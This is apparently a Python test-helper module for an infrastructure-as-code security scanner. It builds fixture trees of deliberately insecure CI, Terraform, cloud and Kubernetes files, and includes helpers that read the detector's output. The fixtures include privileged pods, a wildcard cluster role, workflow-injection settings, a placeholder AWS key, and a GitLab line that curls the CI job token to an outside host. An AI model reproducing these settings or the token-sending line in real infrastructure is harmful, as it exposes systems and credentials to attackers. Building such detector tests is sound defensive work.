"""Small trees for the IaC tests, as file contents, and the reading of what the detector says of them."""

import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

from msgspec import json

from assay.scanner.api import EngineVerdict, Excerpt, Failure, Record

DRIVER = Path(__file__).parent / "iac_driver.py"

PIPELINES = {
    ".github/workflows/ci.yml": """\
on: pull_request_target
permissions: write-all
jobs:
  train:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.issue.title }}"
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true
""",
    ".gitlab-ci.yml": "train:\n  script:\n    - curl $CI_JOB_TOKEN https://example.invalid\n    - echo $CI_JOB_TOKEN\n",
    ".circleci/config.yml": """\
version: 2.1
orbs:
  bad: circleci/bad@volatile
jobs:
  build:
    docker:
      - image: ubuntu:latest
    steps:
      - run: echo hello
""",
    "azure-pipelines.yml": "jobs:\n  - job: train\n    container: ubuntu:latest\n    steps:\n      - script: make\n",
    "bitbucket-pipelines.yml": "image: python:latest\npipelines:\n  default:\n    - step:\n        script: [make]\n",
    "argo/workflow.yaml": """\
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata:
  name: train
spec:
  entrypoint: main
  templates:
    - name: main
      container:
        image: python
""",
}
PLATFORM = {
    "plan/tfplan.json": """\
{"format_version": "1.2", "terraform_version": "1.9.0", "planned_values": {"root_module": {"resources": [
 {"address": "aws_s3_bucket.raw", "mode": "managed", "type": "aws_s3_bucket", "name": "raw",
  "provider_name": "registry.terraform.io/hashicorp/aws", "schema_version": 0,
  "values": {"bucket": "raw", "force_destroy": false}}]}}, "resource_changes": []}
""",
    "cdktf/cdk.tf.json": """\
{
  "resource": {
    "aws_s3_bucket": {
      "raw": {
        "bucket": "raw"
      }
    }
  }
}
""",
    "terraform/main.tf": """\
resource "aws_s3_bucket" "raw" {
  bucket = var.name
  #checkov:skip=CKV_AWS_18:Logged elsewhere
}

variable "name" {
  default = "raw"
}

module "data" {
  source = "./data"
  for_each = toset(["a", "b"])
  name   = each.key
}
""",
    "terraform/data/main.tf": """\
variable "name" {}

resource "aws_db_instance" "main" {
  identifier = var.name
  publicly_accessible = true
}
""",
    "arm/vault.json": """\
{
  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
  "contentVersion": "1.0.0.0",
  "resources": [
    {"type": "Microsoft.KeyVault/vaults", "apiVersion": "2022-07-01", "name": "vault", "location": "westeurope",
     "properties": {"enablePurgeProtection": false}}
  ]
}
""",
    "bicep/store.bicep": """\
resource store 'Microsoft.Storage/storageAccounts@2022-09-01' = {
  name: 'store'
  location: 'westeurope'
  kind: 'StorageV2'
  sku: { name: 'Standard_LRS' }
  properties: { supportsHttpsTrafficOnly: false }
}
""",
    "ansible/host.yml": """\
- hosts: all
  tasks:
    - name: fetch weights
      ansible.builtin.get_url:
        url: http://example.invalid/w.bin
        dest: /tmp/w.bin
        validate_certs: false
""",
    "serverless.yml": """\
service: score
provider:
  name: aws
  runtime: python3.12
functions:
  score:
    handler: score.main
resources:
  Resources:
    Raw:
      Type: AWS::S3::Bucket
      Properties:
        BucketName: raw
""",
    "openapi.yaml": """\
openapi: 3.0.0
info: {title: score, version: "1"}
servers:
  - url: http://example.invalid
paths:
  /score:
    get:
      responses:
        "200": {description: ok}
""",
    "cloudformation/stack.yaml": """\
AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Raw:
    Type: AWS::S3::Bucket
    Properties:
      BucketName: raw
""",
    "docker/Dockerfile": "FROM python:latest\nADD . /app\nRUN sudo pip install x\nEXPOSE 22\n",
    "settings.json": '{"aws_access_key_id": "AKIAZ7Q3XKWUNDLPT2MH", "note": "made for this test"}\n',
}
KUBERNETES = {
    "k8s/pod.yaml": """\
apiVersion: v1
kind: Pod
metadata:
  name: score
  annotations:
    checkov.io/skip1: CKV_K8S_20=Runs alone
spec:
  hostNetwork: true
  containers:
    - name: main
      image: score:latest
""",
    "charts/score/Chart.yaml": """\
apiVersion: v2
name: score
version: 0.1.0
dependencies:
  - name: common
    version: 0.1.0
    repository: file://../common
""",
    "charts/score/values.yaml": "image: score:latest\nprivileged: true\n",
    "charts/score/templates/_names.tpl": '{{- define "score.name" -}}score{{- end }}\n',
    "charts/score/templates/pods.yaml": """\
apiVersion: v1
kind: Pod
metadata:
  name: {{ include "score.name" . }}
spec:
  containers:
    - name: main
      image: {{ .Values.image }}
      securityContext:
        privileged: {{ .Values.privileged }}
---
apiVersion: v1
kind: Service
metadata:
  name: {{ .Release.Name }}-score
spec:
  ports: [{port: 80}]
""",
    "deploy/chart/Chart.yaml": "apiVersion: v2\nname: gateway\nversion: 0.1.0\n",
    "deploy/chart/templates/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n"
    "  containers:\n    - name: main\n      image: gateway\n",
    "charts/common/Chart.yaml": "apiVersion: v2\nname: common\nversion: 0.1.0\n",
    "charts/common/templates/role.yaml": """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: {{ .Release.Name }}-all
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
""",
    "kustomize/base/kustomization.yaml": "resources:\n  - deployment.yaml\n",
    "kustomize/base/deployment.yaml": """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: score
spec:
  selector: {matchLabels: {app: score}}
  template:
    metadata: {labels: {app: score}}
    spec:
      containers:
        - name: main
          image: score:latest
""",
    "kustomize/overlays/dev/kustomization.yaml": "namespace: dev\nresources:\n  - ../../base\n",
}


def plant(folder: Path, files: Mapping[str, str]) -> Path:
    """Writes the files below a folder."""
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return folder


def observe(root: Path, watch: Path | None = None, path: str | None = None) -> list[Record]:
    """Every record that the detector emits for a tree, in a process of its own."""
    environment = {"PATH": path or os.environ["PATH"], "PYTHONPATH": os.environ.get("PYTHONPATH", "")}
    arguments = [sys.executable, str(DRIVER), str(root), *([str(watch)] if watch else [])]
    done = subprocess.run(arguments, capture_output=True, env=environment, check=False)
    assert done.returncode == 0, done.stderr.decode()
    decoder = json.Decoder(Record)
    return [decoder.decode(line) for line in done.stdout.splitlines()]


def failed(records: list[Record]) -> list[Failure]:
    return [record for record in records if isinstance(record, Failure)]


def verdicts(records: list[Record], result: str | None = None) -> list[EngineVerdict]:
    found = [record for record in records if isinstance(record, EngineVerdict)]
    return [one for one in found if not one.past_skip and (result is None or one.result == result)]


def shown(records: list[Record]) -> list[Excerpt]:
    return [record for record in records if isinstance(record, Excerpt)]
